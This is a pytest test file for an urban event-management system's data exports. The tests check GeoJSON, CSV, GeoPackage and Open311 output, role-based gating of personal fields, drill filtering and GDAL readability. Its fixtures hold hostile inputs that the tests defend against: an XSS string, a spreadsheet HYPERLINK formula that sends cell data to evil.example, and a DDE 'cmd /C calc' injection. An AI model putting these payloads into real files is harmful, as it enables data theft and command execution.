"""Exports (db/export): GeoJSON, CSV, GeoPackage and Open311 on a tiny hand-built replica and on
the demo replica. GeoPackage files are read back with GDAL's ``ogrinfo`` (Debian gdal-bin)."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import shutil
import sqlite3
import subprocess
import threading
from pathlib import Path

import pytest
import shapely

from app.state import Session
from db.export import (
    ExportCancelled,
    ExportError,
    ExportRefused,
    ExportUsageError,
    csvout,
    export,
    gpkg,
    personal_allowed,
)
from db.replica import open_replica

S1, S2 = "320613001", "320613002"
OGRINFO = shutil.which("ogrinfo")
needs_ogrinfo = pytest.mark.skipif(
    OGRINFO is None,
    reason="GDAL's ogrinfo is not installed (apt-get install gdal-bin); it reads the GeoPackage back",
)
PERSONAL = {"reporter_name", "reporter_phone", "reporter_id_no"}
XSS = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
MULTILINE = '中文，逗号,"引号"\n换行；emoji 🚧'
OPEN311_FIELDS = {
    "service_request_id", "status", "status_notes", "service_name", "service_code", "description",
    "agency_responsible", "service_notice", "requested_datetime", "updated_datetime", "expected_datetime",
    "address", "address_id", "zipcode", "lat", "long", "media_url",
}  # fmt: skip
DATETIME_RE = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")


def square(x0, y0, x1, y1, *, clockwise=False):
    ring = [[x0, y0], [x1, y0], [x1, y1], [x0, y1], [x0, y0]]
    return ring[::-1] if clockwise else ring


def gj(geom: dict) -> str:
    return json.dumps(geom, separators=(",", ":"))


def build_tiny(path: Path) -> Path:
    """Two streets, two communities, three grids, six events (one drill, one without
    coordinates, one XSS title, one formula title, one multi-line Chinese text), devices,
    places (estate + road) and a neighbourhood."""
    rep = open_replica(path)
    try:
        with rep.write("events") as c:
            # street 1 drawn clockwise on purpose: the exports must orient it counter-clockwise
            c.execute(
                "INSERT INTO streets VALUES (?, '城东街道', 1, 100000, 14.8, 120.91, 32.01, ?)",
                (
                    S1,
                    gj(
                        {
                            "type": "Polygon",
                            "coordinates": [square(120.90, 32.00, 120.92, 32.02, clockwise=True)],
                        }
                    ),
                ),
            )
            c.execute(
                "INSERT INTO streets VALUES (?, '和平桥街道', 1, 80000, 9.5, 120.93, 32.01, ?)",
                (S2, gj({"type": "MultiPolygon", "coordinates": [[square(120.92, 32.00, 120.94, 32.02)],
                                                                  [square(120.95, 32.00, 120.96, 32.01)]]})),
            )  # fmt: skip
            c.execute(
                "INSERT INTO communities VALUES ('C1', '德民社区', ?, 1, 5000, 120.91, 32.01, ?)",
                (S1, gj({"type": "Polygon", "coordinates": [square(120.90, 32.00, 120.92, 32.02)]})),
            )
            c.execute(
                "INSERT INTO communities VALUES ('C2', '钟秀社区', ?, 1, 4000, 120.93, 32.01, ?)",
                (S2, gj({"type": "Polygon", "coordinates": [square(120.92, 32.00, 120.94, 32.02)]})),
            )
            grids = [
                ("G1", "德民社区第1网格", "comprehensive", "C1", S1, square(120.90, 32.00, 120.91, 32.02)),
                ("G2", "德民社区第2网格", "school", "C1", S1, square(120.91, 32.00, 120.92, 32.02)),
                ("G3", "钟秀社区第1网格", "comprehensive", "C2", S2, square(120.92, 32.00, 120.94, 32.02)),
            ]
            for gid, name, kind, comm, street, ring in grids:
                c.execute(
                    "INSERT INTO grids VALUES (?, ?, ?, ?, ?, 2000, 800, ?, ?, ?, ?, ?, ?, ?)",
                    (gid, name, kind, comm, street, ring[0][0] + 0.005, 32.01, ring[0][0], 32.0, ring[1][0], 32.02,
                     gj({"type": "Polygon", "coordinates": [ring]})),
                )  # fmt: skip
            c.execute("INSERT INTO neighbourhoods VALUES ('G1-1', '第1邻里', 'G1', 300, 120.905, 32.01)")
            c.execute(
                "INSERT INTO places (id, kind, name, community_code, street_code, grid_id, lon, lat, geometry) "
                "VALUES (1, 'estate', '怡和名邸', 'C1', ?, 'G1', 120.905, 32.012, NULL)",
                (S1,),
            )
            c.execute(
                "INSERT INTO places (id, kind, name, community_code, street_code, grid_id, lon, lat, geometry) "
                "VALUES (2, 'road', '工农路', 'C2', ?, 'G3', NULL, NULL, ?)",
                (S2, gj({"type": "LineString", "coordinates": [[120.92, 32.005], [120.94, 32.015]]})),
            )
            c.execute(
                "INSERT INTO devices (id, uid, kind, name, grid_id, street_code, lon, lat, status, last_seen_at) "
                "VALUES (1, 'D1', 'camera', '雪亮摄像机-0001', 'G1', ?, 120.906, 32.011, 'online', "
                "'2026-03-05T08:00:00+08:00')",
                (S1,),
            )
            c.execute(
                "INSERT INTO devices (id, uid, kind, name, grid_id, street_code, lon, lat, status) "
                "VALUES (2, 'D2', 'manhole', '智能井盖-0002', 'G3', ?, 120.93, 32.01, 'offline')",
                (S2,),
            )
            c.execute(
                "INSERT INTO categories (code, name_zh, name_en, class) VALUES ('ENV.DUMP', '暴露垃圾', 'Exposed waste', 'ordinary')"
            )
            c.execute(
                "INSERT INTO departments (code, name, name_en) VALUES ('CITYMGMT', '城市管理局', 'City management')"
            )
            c.execute(
                "INSERT INTO drills (id, uid, title, theme, level, starts_at) "
                "VALUES (1, 'DR1', '防汛演练', 'flood', 'street', '2026-03-01T09:00:00+08:00')"
            )
            events = [
                dict(uid="E1", source="hotline_12345", external_id="12345-0001", title="路灯不亮",
                     reporter_name="张三", reporter_phone="13800000000", reporter_id_no="320602199001011234",
                     lon=120.905, lat=32.01, street_code=S1, grid_id="G1", community_code="C1",
                     status="closed", reported_at="2026-03-01T10:00:00+08:00", closed_at="2026-03-01T18:00:00+08:00",
                     handle_due_at="2026-03-02T10:00:00+08:00",
                     assignee_kind="department", assignee_code="CITYMGMT"),
                dict(uid="E2", title=XSS, description=XSS, lon=120.93, lat=32.01, street_code=S2, grid_id="G3",
                     community_code="C2", reported_at="2026-03-02T00:00:00+08:00", reporter_name="李四"),
                dict(uid="E3", title=FORMULA, description="+1 cmd|' /C calc'!A0", lon=120.915, lat=32.015,
                     street_code=S1, grid_id="G2", community_code="C1", reported_at="2026-03-03T08:00:00+08:00",
                     assignee_kind="grid", assignee_code="G2", status="dispatched"),
                dict(uid="E4", title="防汛演练：积水点", lon=120.906, lat=32.011, street_code=S1, grid_id="G1",
                     community_code="C1", reported_at="2026-03-01T09:30:00+08:00", drill_id=1),
                dict(uid="E5", title="无坐标的事件", address="钟秀社区某处", street_code=S2,
                     reported_at="2026-03-04T12:00:00+08:00", status="merged", merged_into=2),
                dict(uid="E6", title=MULTILINE, description=MULTILINE, lon=120.908, lat=32.004, street_code=S1,
                     grid_id="G1", community_code="C1", reported_at="2026-03-05T23:59:59+08:00"),
            ]  # fmt: skip
            for e in events:
                row = {"source": "grid_app", "category": "ENV.DUMP", "class": "ordinary", "priority": 3,
                       "status": "reported", "updated_at": e["reported_at"], **e}  # fmt: skip
                cols = ", ".join(f'"{k}"' for k in row)
                c.execute(
                    f"INSERT INTO events ({cols}) VALUES ({', '.join('?' * len(row))})", tuple(row.values())
                )
    finally:
        rep.close()
    return path


@pytest.fixture
def tiny(tmp_path) -> Path:
    return build_tiny(tmp_path / "tiny.db")


def read_geojson(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def read_csv(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with the UTF-8 BOM (Excel)"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def ogrinfo(*args: str) -> str:
    r = subprocess.run([OGRINFO, *args], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return r.stdout + r.stderr


def feature_count(path: Path, layer: str) -> int:
    m = re.search(r"Feature Count: (\d+)", ogrinfo("-ro", "-so", str(path), layer))
    assert m, f"no feature count for {layer}"
    return int(m.group(1))


def non_drill_events(db: Path, where: str = "1") -> int:
    with sqlite3.connect(db) as c:
        return c.execute(f"SELECT count(*) FROM events WHERE drill_id IS NULL AND {where}").fetchone()[0]


# -- GeoJSON -------------------------------------------------------------------------------------
def test_geojson_events_tiny(tiny, tmp_path):
    out = tmp_path / "e.geojson"
    res = export(tiny, "geojson", out)
    fc = read_geojson(out)
    assert fc["type"] == "FeatureCollection" and "crs" not in fc
    uids = [f["properties"]["uid"] for f in fc["features"]]
    assert uids == ["E1", "E2", "E3", "E5", "E6"]  # the drill event E4 is left out
    assert res.counts == {"events": 5} and res.path == out
    e1 = fc["features"][0]
    assert e1["id"] == 1 and e1["geometry"] == {"type": "Point", "coordinates": [120.905, 32.01]}
    p = e1["properties"]
    assert (
        p["status_label"] == "结案" and p["source_label"] == "12345热线" and p["category_name"] == "暴露垃圾"
    )
    assert (
        p["street_name"] == "城东街道"
        and p["grid_name"] == "德民社区第1网格"
        and p["assignee_name"] == "城市管理局"
    )
    assert p["reported_at"] == "2026-03-01T10:00:00+08:00"  # stored ISO with offset
    assert not PERSONAL & set(p) and "lon" not in p and "rev" not in p
    e5 = next(f for f in fc["features"] if f["properties"]["uid"] == "E5")
    assert e5["geometry"] is None
    assert any("without coordinates" in w for w in res.warnings)
    # citizen text is data: exported verbatim
    assert fc["features"][1]["properties"]["title"] == XSS
    assert fc["features"][2]["properties"]["title"] == FORMULA


def test_geojson_polygons_right_hand_rule(tiny, tmp_path):
    out = tmp_path / "s.geojson"
    export(tiny, "geojson", out, layer="streets")
    fc = read_geojson(out)
    assert [f["id"] for f in fc["features"]] == [S1, S2]
    for f in fc["features"]:
        g = shapely.geometry.shape(f["geometry"])
        polys = list(g.geoms) if g.geom_type == "MultiPolygon" else [g]
        for poly in polys:
            assert poly.exterior.is_ccw, "RFC 7946: exterior rings counter-clockwise"
    assert fc["features"][0]["properties"]["name"] == "城东街道"
    assert fc["features"][1]["geometry"]["type"] == "MultiPolygon"


def test_geojson_demo_counts(demo_copy, tmp_path):
    for layer, expected in [("events", non_drill_events(demo_copy)), ("grids", 824), ("streets", 16)]:
        out = tmp_path / f"{layer}.geojson"
        res = export(demo_copy, "geojson", out, layer=layer)
        fc = read_geojson(out)
        assert len(fc["features"]) == expected == res.counts[layer]
    grids = read_geojson(tmp_path / "grids.geojson")["features"]
    assert {f["properties"]["kind_label"] for f in grids} >= {"综合网格"}
    assert all(f["geometry"]["type"] in ("Polygon", "MultiPolygon") for f in grids)


def test_geojson_english_labels(tiny, tmp_path):
    out = tmp_path / "en.geojson"
    export(tiny, "geojson", out, session=Session(lang="en"))
    p = read_geojson(out)["features"][0]["properties"]
    assert p["status_label"] == "Closed" and p["category_name"] == "Exposed waste"
    assert p["assignee_name"] == "City management"


# -- CSV -----------------------------------------------------------------------------------------
def test_csv_bom_chinese_round_trip(tiny, tmp_path):
    out = tmp_path / "e.csv"
    export(tiny, "csv", out)
    rows = read_csv(out)
    assert [r["uid"] for r in rows] == ["E1", "E2", "E3", "E5", "E6"]
    assert list(rows[0])[-2:] == ["lon", "lat"]
    e6 = rows[-1]
    assert e6["title"] == MULTILINE and e6["description"] == MULTILINE  # commas, quotes, newline, emoji
    assert float(e6["lon"]) == 120.908 and float(e6["lat"]) == 32.004
    assert rows[0]["street_name"] == "城东街道" and rows[0]["status_label"] == "结案"
    assert rows[3]["lon"] == "" and rows[3]["lat"] == ""  # E5 has no coordinates
    assert not PERSONAL & set(rows[0])
    assert b"\r\n" in out.read_bytes()  # Excel's line ends


def test_csv_formula_guard_and_xss(tiny, tmp_path):
    out = tmp_path / "e.csv"
    export(tiny, "csv", out)
    rows = {r["uid"]: r for r in read_csv(out)}
    assert rows["E3"]["title"] == "'" + FORMULA  # Excel would run it: neutralised
    assert rows["E3"]["description"] == "'+1 cmd|' /C calc'!A0"
    assert rows["E2"]["title"] == XSS  # not a formula: verbatim
    assert rows["E1"]["reported_at"] == "2026-03-01T10:00:00+08:00"
    raw = tmp_path / "raw.csv"
    export(tiny, "csv", raw, csv_formula_guard=False)
    assert {r["uid"]: r for r in read_csv(raw)}["E3"]["title"] == FORMULA
    assert csvout.guard("-3") == "'-3" and csvout.guard(-3.5) == -3.5 and csvout.guard(None) is None


def test_csv_polygons_wkt(tiny, tmp_path):
    out = tmp_path / "g.csv"
    res = export(tiny, "csv", out, layer="grids")
    rows = read_csv(out)
    assert res.counts == {"grids": 3} and list(rows[0])[-1] == "wkt"
    g1 = shapely.from_wkt(rows[0]["wkt"])
    assert g1.geom_type == "Polygon" and g1.exterior.is_ccw
    assert g1.bounds == pytest.approx((120.90, 32.00, 120.91, 32.02))
    assert g1.contains(shapely.Point(float(rows[0]["lon"]), float(rows[0]["lat"])))  # label point
    assert rows[1]["kind_label"] == "学校专属网格"
    streets = tmp_path / "s.csv"
    export(tiny, "csv", streets, layer="streets")
    s2 = shapely.from_wkt(read_csv(streets)[1]["wkt"])
    assert s2.geom_type == "MultiPolygon" and s2.area == pytest.approx(0.02 * 0.02 + 0.01 * 0.01)


def test_csv_demo_counts(demo_copy, tmp_path):
    out = tmp_path / "e.csv"
    export(demo_copy, "csv", out)
    assert len(read_csv(out)) == non_drill_events(demo_copy)
    out = tmp_path / "s.csv"
    export(demo_copy, "csv", out, layer="streets")
    assert len(read_csv(out)) == 16


def test_wkt_writer():
    assert csvout.to_wkt({"type": "Point", "coordinates": [120.5, 32]}) == "POINT (120.5 32)"
    assert (
        csvout.to_wkt({"type": "LineString", "coordinates": [[1, 2], [3.25, 4]]})
        == "LINESTRING (1 2, 3.25 4)"
    )
    assert csvout.to_wkt(None) == ""
    mp = {"type": "MultiPolygon", "coordinates": [[square(0, 0, 1, 1)], [square(2, 2, 3, 3)]]}
    assert shapely.from_wkt(csvout.to_wkt(mp)).equals(shapely.geometry.shape(mp))


# -- personal data, drills, scope, time ----------------------------------------------------------
def test_personal_fields_only_when_allowed_and_asked(tiny, tmp_path):
    out = tmp_path / "p.geojson"
    export(tiny, "geojson", out, include_personal=True, session=Session(role="district"))
    p = read_geojson(out)["features"][0]["properties"]
    assert p["reporter_name"] == "张三" and p["reporter_phone"] == "13800000000"
    assert p["reporter_id_no"] == "320602199001011234"
    # allowed but not asked: absent
    export(tiny, "geojson", out, session=Session(role="district"))
    assert not PERSONAL & set(read_geojson(out)["features"][0]["properties"])


@pytest.mark.parametrize("role,scope", [("wall", None), ("department", "CITYMGMT"), ("drill", None)])
def test_personal_refused_for_other_roles(tiny, tmp_path, role, scope):
    out = tmp_path / "p.csv"
    out.write_text("previous export", encoding="utf-8")
    rep = open_replica(tiny)
    try:
        with pytest.raises(ExportRefused) as err:
            export(rep, "csv", out, include_personal=True, session=Session(role=role, scope=scope))
        assert "personal" in err.value.reason
        with rep.reader() as c:
            logged = c.execute("SELECT role, action, reason FROM access_log").fetchall()
    finally:
        rep.close()
    assert [(r[0], r[1]) for r in logged] == [(role, "export")]
    assert out.read_text(encoding="utf-8") == "previous export"  # untouched
    assert not list(tmp_path.glob(".*.part"))


def test_personal_allowed_helper():
    assert personal_allowed(Session(role="district"))[0]
    assert personal_allowed(Session(role="street", scope=S1))[0]
    assert not personal_allowed(Session(role="street"))[0]
    for role in ("wall", "department", "drill", "bogus"):
        ok, reason = personal_allowed(Session(role=role, scope="X"))
        assert not ok and reason


def test_street_role_sees_its_street_and_may_take_personal(tiny, tmp_path):
    out = tmp_path / "s.geojson"
    export(tiny, "geojson", out, include_personal=True, session=Session(role="street", scope=S2))
    feats = read_geojson(out)["features"]
    assert {f["properties"]["street_code"] for f in feats} == {S2}
    assert feats[0]["properties"]["reporter_name"] == "李四"
    with pytest.raises(ExportRefused, match="outside your scope"):
        export(tiny, "geojson", out, scope=S1, session=Session(role="street", scope=S2))


def test_department_role_exports_its_dispatched_events(tiny, tmp_path):
    out = tmp_path / "d.geojson"
    export(tiny, "geojson", out, session=Session(role="department", scope="CITYMGMT"))
    assert [f["properties"]["uid"] for f in read_geojson(out)["features"]] == ["E1"]


def test_drill_events_only_when_asked(tiny, tmp_path):
    out = tmp_path / "d.geojson"
    export(tiny, "geojson", out, include_drills=True)
    feats = read_geojson(out)["features"]
    assert len(feats) == 6
    assert next(f for f in feats if f["properties"]["uid"] == "E4")["properties"]["drill_id"] == 1


def test_drill_event_on_demo(demo_copy, tmp_path):
    before = non_drill_events(demo_copy)
    with sqlite3.connect(demo_copy) as c:
        c.execute(
            "INSERT INTO drills (id, uid, title, theme, level, starts_at) "
            "VALUES (77, 'DRILL77', '防汛演练', 'flood', 'district', '2026-11-20T09:00:00+08:00')"
        )
        c.execute(
            "INSERT INTO events (uid, source, category, class, priority, title, lon, lat, street_code, status,"
            " reported_at, updated_at, drill_id) SELECT 'DRILL-EV-1', 'manual', category, 'ordinary', 2,"
            " '演练：积水', lon, lat, street_code, 'reported', reported_at, updated_at, 77 FROM events LIMIT 1"
        )
    out = tmp_path / "e.csv"
    assert export(demo_copy, "csv", out).counts["events"] == before
    assert "DRILL-EV-1" not in out.read_text(encoding="utf-8-sig")
    with sqlite3.connect(demo_copy) as c:  # the demo has drill events of its own (issue 7)
        demo_drill_events = c.execute("SELECT count(*) FROM events WHERE drill_id IS NOT NULL").fetchone()[0]
    assert export(demo_copy, "csv", out, include_drills=True).counts["events"] == before + demo_drill_events
    assert "DRILL-EV-1" in out.read_text(encoding="utf-8-sig")


def test_scope_filters_every_layer(tiny, tmp_path):
    out = tmp_path / "s1.geojson"
    export(tiny, "geojson", out, scope=S1)
    assert [f["properties"]["uid"] for f in read_geojson(out)["features"]] == ["E1", "E3", "E6"]
    export(tiny, "geojson", out, layer="grids", scope=S2)
    assert [f["id"] for f in read_geojson(out)["features"]] == ["G3"]
    gp = tmp_path / "s1.gpkg"
    res = export(tiny, "gpkg", gp, scope=S1)
    assert res.counts == {
        "streets": 1, "communities": 1, "grids": 2, "neighbourhoods": 1, "places": 1, "roads": 0,
        "devices": 1, "events": 3,
    }  # fmt: skip


def test_scope_on_demo(demo_copy, tmp_path):
    out = tmp_path / "e.geojson"
    res = export(demo_copy, "geojson", out, scope=S1)
    feats = read_geojson(out)["features"]
    assert {f["properties"]["street_code"] for f in feats} == {S1}
    assert res.counts["events"] == non_drill_events(demo_copy, f"street_code = '{S1}'") > 0


def test_since_until(tiny, tmp_path):
    out = tmp_path / "t.geojson"

    def uids(**kw):
        export(tiny, "geojson", out, **kw)
        return [f["properties"]["uid"] for f in read_geojson(out)["features"]]

    assert uids(since="2026-03-02T00:00:00+08:00") == ["E2", "E3", "E5", "E6"]  # inclusive
    assert uids(until="2026-03-02T00:00:00+08:00") == ["E1"]  # exclusive
    assert uids(since="2026-03-02", until="2026-03-04") == ["E2", "E3"]  # naive = Asia/Shanghai
    assert uids(since="2026-03-01T16:00:00Z") == ["E2", "E3", "E5", "E6"]  # UTC midnight+8 = 00:00 CST
    assert uids(since="2026-03-05T23:59:59") == ["E6"]


@pytest.mark.parametrize(
    "kw,match",
    [
        (dict(fmt="kml"), "unknown format"),
        (dict(fmt="csv", layer="devices"), "not available for csv"),
        (dict(fmt="geojson", layer="events,grids"), "one layer"),
        (dict(fmt="open311", layer="grids"), "not available for open311"),
        (dict(fmt="gpkg", layer="bogus"), "not available for gpkg"),
        (dict(fmt="csv", since="yesterday"), "--since"),
        (dict(fmt="csv", until="2026-13-01"), "--until"),
        (dict(fmt="csv", since="2026-03-05", until="2026-03-01"), "not before"),
        (dict(fmt="csv", scope="999999999"), "no such street"),
    ],
)
def test_usage_errors(tiny, tmp_path, kw, match):
    fmt = kw.pop("fmt")
    with pytest.raises(ExportUsageError, match=match):
        export(tiny, fmt, tmp_path / "x.out", **kw)
    assert not list(tmp_path.glob("x.out")) and not list(tmp_path.glob(".*.part"))


def test_failures(tiny, tmp_path):
    with pytest.raises(ExportError, match="does not exist"):
        export(tiny, "csv", tmp_path / "no" / "dir" / "x.csv")
    with pytest.raises(ExportError, match="directory"):
        export(tiny, "csv", tmp_path)
    with pytest.raises(ExportError, match="no such replica"):
        export(tmp_path / "missing.db", "csv", tmp_path / "x.csv")
    junk = tmp_path / "junk.db"
    sqlite3.connect(junk).execute("CREATE TABLE t (x)").connection.close()
    with pytest.raises(ExportError, match="not a OneMap replica"):
        export(junk, "csv", tmp_path / "x.csv")


# -- Open311 -------------------------------------------------------------------------------------
def test_open311_fields(tiny, tmp_path):
    out = tmp_path / "o.json"
    res = export(tiny, "open311", out)
    reqs = json.loads(out.read_text(encoding="utf-8"))
    assert isinstance(reqs, list) and len(reqs) == 5 == res.counts["events"]
    assert all(set(r) == OPEN311_FIELDS for r in reqs)
    by = {r["description"][:4]: r for r in reqs}
    e1 = reqs[0]
    assert e1["service_request_id"] == "12345-0001"  # external id
    assert e1["status"] == "closed" and e1["status_notes"] == "结案"
    assert e1["service_code"] == "ENV.DUMP" and e1["service_name"] == "暴露垃圾"
    assert e1["agency_responsible"] == "城市管理局"
    assert e1["requested_datetime"] == "2026-03-01T10:00:00+08:00"
    assert e1["expected_datetime"] == "2026-03-02T10:00:00+08:00"
    assert e1["lat"] == 32.01 and e1["long"] == 120.905
    assert reqs[1]["service_request_id"] == "E2" and reqs[1]["status"] == "open"  # no external id: uid
    assert reqs[1]["description"] == XSS
    assert reqs[2]["agency_responsible"] == "德民社区第2网格"
    merged = next(r for r in reqs if r["service_request_id"] == "E5")
    assert merged["status"] == "closed" and "#2" in merged["status_notes"] and merged["lat"] is None
    assert by  # descriptions present


def test_open311_source_code_and_personal(tiny, tmp_path):
    with sqlite3.connect(tiny) as c:  # an importer keeps the source's own service code
        if "source_code" not in {r[1] for r in c.execute("PRAGMA table_info(events)")}:
            c.execute("ALTER TABLE events ADD COLUMN source_code TEXT")  # before the intake migration
        c.execute("UPDATE events SET source_code = 'STREETLIGHT' WHERE uid = 'E1'")
    out = tmp_path / "o.json"
    export(tiny, "open311", out, include_personal=True)
    reqs = json.loads(out.read_text(encoding="utf-8"))
    assert reqs[0]["service_code"] == "STREETLIGHT" and reqs[1]["service_code"] == "ENV.DUMP"
    assert reqs[0]["reporter_name"] == "张三" and set(reqs[0]) == OPEN311_FIELDS | PERSONAL


def test_open311_demo(demo_copy, tmp_path):
    out = tmp_path / "o.json"
    export(demo_copy, "open311", out)
    reqs = json.loads(out.read_text(encoding="utf-8"))
    assert len(reqs) == non_drill_events(demo_copy)
    assert {r["status"] for r in reqs} == {"open", "closed"}
    iso = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$")
    assert all(iso.match(r["requested_datetime"]) for r in reqs)
    assert len({r["service_request_id"] for r in reqs}) == len(reqs)


# -- GeoPackage ----------------------------------------------------------------------------------
def test_gpkg_structure(tiny, tmp_path):
    out = tmp_path / "t.gpkg"
    res = export(tiny, "gpkg", out)
    assert res.counts == {
        "streets": 2, "communities": 2, "grids": 3, "neighbourhoods": 1, "places": 1, "roads": 1,
        "devices": 2, "events": 5,
    }  # fmt: skip
    c = sqlite3.connect(out)
    try:
        assert c.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47
        assert c.execute("PRAGMA user_version").fetchone()[0] == 10300
        assert c.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert c.execute("PRAGMA journal_mode").fetchone()[0] != "wal"
        srs = {
            r[0]: r
            for r in c.execute(
                "SELECT srs_id, organization, organization_coordsys_id FROM gpkg_spatial_ref_sys"
            )
        }
        assert set(srs) == {-1, 0, 4326} and srs[4326][1:] == ("EPSG", 4326)
        contents = {
            r[0]: r[1:]
            for r in c.execute("SELECT table_name, data_type, srs_id, min_x, max_y FROM gpkg_contents")
        }
        assert set(contents) == set(res.counts) and all(
            v[0] == "features" and v[1] == 4326 for v in contents.values()
        )
        types = dict(c.execute("SELECT table_name, geometry_type_name FROM gpkg_geometry_columns"))
        assert types == {
            "streets": "MULTIPOLYGON", "communities": "MULTIPOLYGON", "grids": "MULTIPOLYGON",
            "neighbourhoods": "POINT", "places": "POINT", "roads": "LINESTRING", "devices": "POINT", "events": "POINT",
        }  # fmt: skip
        # fid = events.id; the point blob: 'GP', v0, flags 0x03, srs 4326, envelope, WKB
        blob, fid = c.execute("SELECT geom, fid FROM events WHERE uid = 'E3'").fetchone()
        assert fid == 3 and blob[:4] == b"GP\x00\x03"
        srs_id, env, wkb = gpkg.decode_header(blob)
        assert srs_id == 4326 and env == (120.915, 120.915, 32.015, 32.015)
        assert shapely.from_wkb(wkb).equals(shapely.Point(120.915, 32.015))
        assert c.execute("SELECT geom FROM events WHERE uid = 'E5'").fetchone()[0] is None
        # polygons promoted to MULTIPOLYGON and oriented; envelope = bounds
        blob = c.execute("SELECT geom FROM streets WHERE code = ?", (S1,)).fetchone()[0]
        _, env, wkb = gpkg.decode_header(blob)
        g = shapely.from_wkb(wkb)
        assert g.geom_type == "MultiPolygon" and g.geoms[0].exterior.is_ccw
        assert env == pytest.approx((120.90, 120.92, 32.00, 32.02))
        # typed columns; DATETIME in UTC as the spec wants
        cols = {r[1]: r[2] for r in c.execute("PRAGMA table_info(events)")}
        assert cols["fid"] == "INTEGER" and cols["geom"] == "POINT" and cols["priority"] == "INTEGER"
        assert cols["reported_at"] == "DATETIME" and cols["title"] == "TEXT" and cols["src_lon"] == "REAL"
        assert "id" not in cols and not PERSONAL & set(cols)
        assert (
            c.execute("SELECT reported_at FROM events WHERE fid = 1").fetchone()[0]
            == "2026-03-01T02:00:00.000Z"
        )
        assert all(DATETIME_RE.match(v) for (v,) in c.execute("SELECT updated_at FROM events"))
        assert c.execute("SELECT title FROM events WHERE fid = 2").fetchone()[0] == XSS
        assert {r[1]: r[2] for r in c.execute("PRAGMA table_info(streets)")}["approximate"] == "BOOLEAN"
        # spatial index: registered, consistent, and holding every non-empty geometry
        ext = {
            r[0]
            for r in c.execute(
                "SELECT table_name FROM gpkg_extensions WHERE extension_name = 'gpkg_rtree_index'"
            )
        }
        assert ext == set(res.counts)
        for t in res.counts:
            assert c.execute(f"SELECT rtreecheck('rtree_{t}_geom')").fetchone()[0] == "ok"
            n_geom = c.execute(f"SELECT count(*) FROM {t} WHERE geom IS NOT NULL").fetchone()[0]
            assert c.execute(f"SELECT count(*) FROM rtree_{t}_geom").fetchone()[0] == n_geom
            triggers = {
                r[0]
                for r in c.execute(
                    "SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = ?", (t,)
                )
            }
            assert triggers == {
                f"rtree_{t}_geom_{s}"
                for s in ("insert", "update1", "update2", "update3", "update4", "delete")
            }
    finally:
        c.close()


@needs_ogrinfo
def test_gpkg_tiny_reads_in_gdal(tiny, tmp_path):
    out = tmp_path / "t.gpkg"
    export(tiny, "gpkg", out, include_drills=True, include_personal=True)
    listing = ogrinfo("-ro", "-so", str(out))
    assert re.findall(r"^\d+: (\w+) \(", listing, re.M) == [
        "streets", "communities", "grids", "neighbourhoods", "places", "roads", "devices", "events",
    ]  # fmt: skip
    assert feature_count(out, "events") == 6
    text = ogrinfo("-ro", "-q", str(out), "events", "-fid", "1")
    assert "reporter_name (String) = 张三" in text and "POINT (120.905 32.01)" in text
    assert "reported_at (DateTime) = 2026/03/01 02:00:00+00" in text
    spat = ogrinfo("-ro", "-so", "-spat", "120.90", "32.00", "120.91", "32.02", str(out), "events")
    assert "Feature Count: 3" in spat  # E1, E4, E6 through the R-tree
    # GDAL edits the file: the spec's triggers (with GDAL's ST_* functions) keep the index right
    ogrinfo(str(out), "-sql", "UPDATE grids SET geom = (SELECT geom FROM grids WHERE fid = 3) WHERE fid = 1")
    ogrinfo(str(out), "-sql", "DELETE FROM events WHERE fid = 2")
    with sqlite3.connect(out) as c:
        assert c.execute(
            "SELECT rtreecheck('rtree_grids_geom'), rtreecheck('rtree_events_geom')"
        ).fetchone() == (
            "ok",
            "ok",
        )
        assert c.execute("SELECT minx FROM rtree_grids_geom WHERE id = 1").fetchone()[0] == pytest.approx(
            120.92
        )
        assert (
            c.execute("SELECT count(*) FROM rtree_events_geom").fetchone()[0] == 4
        )  # 6 − deleted − no coords


@needs_ogrinfo
def test_gpkg_demo_in_gdal(demo_copy, tmp_path):
    out = tmp_path / "demo.gpkg"
    res = export(demo_copy, "gpkg", out)
    expected = {"grids": 824, "streets": 16, "events": non_drill_events(demo_copy)}
    with sqlite3.connect(demo_copy) as c:
        expected |= {
            "communities": c.execute("SELECT count(*) FROM communities").fetchone()[0],
            "devices": c.execute("SELECT count(*) FROM devices").fetchone()[0],
            "neighbourhoods": c.execute("SELECT count(*) FROM neighbourhoods").fetchone()[0],
            "places": c.execute("SELECT count(*) FROM places WHERE kind <> 'road'").fetchone()[0],
            "roads": c.execute("SELECT count(*) FROM places WHERE kind = 'road'").fetchone()[0],
        }
    assert res.counts == expected
    for layer, n in expected.items():
        assert feature_count(out, layer) == n, layer
    full = ogrinfo("-ro", "-al", "-so", str(out))
    assert full.count('ID["EPSG",4326]') == len(expected)
    assert "Geometry: Multi Polygon" in full and "Geometry: Line String" in full
    assert "Warning" not in full and "ERROR" not in full


def test_gpkg_passes_gdal_validator(tiny, tmp_path):
    validator = Path("/usr/lib/python3/dist-packages/osgeo_utils/samples/validate_gpkg.py")
    python3 = shutil.which("python3", path="/usr/bin")
    if not validator.exists() or python3 is None:
        pytest.skip("GDAL's validate_gpkg.py (Debian python3-gdal) is not installed")
    out = tmp_path / "t.gpkg"
    export(tiny, "gpkg", out, include_drills=True)
    r = subprocess.run(
        [python3, str(validator), "--extra", "--warning-as-error", str(out)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stdout + r.stderr


def test_gpkg_from_a_plain_connection(tiny, tmp_path):
    # the caller's connection (legacy transaction mode): the GeoPackage is attached to it, then detached
    conn = sqlite3.connect(tiny)
    try:
        res = export(conn, "gpkg", tmp_path / "p.gpkg")
        assert res.counts["events"] == 5 and not conn.in_transaction
        assert [r[1] for r in conn.execute("PRAGMA database_list")] == ["main"]
